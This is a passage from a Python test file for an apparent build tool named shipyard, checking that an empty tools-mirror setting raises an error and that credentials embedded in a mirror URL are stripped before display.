    chain = Toolchain(REPO, cache=tmp_path / "tools")
    with pytest.raises(ToolError, match="SHIPYARD_TOOLS_MIRROR is set but empty"):
        chain.install(["actionlint"], log=lambda line: None)
    assert not (tmp_path / "tools").exists() or not any((tmp_path / "tools").iterdir())


def test_credentials_in_a_mirror_url_are_never_repeated():
    from shipyard.secrets import public_url

    assert public_url("https://ci:s3cr3t@mirror.example/tools/x.tgz") == "https://mirror.example/tools/x.tgz"
    assert public_url("https://mirror.example/x.tgz") == "https://mirror.example/x.tgz"
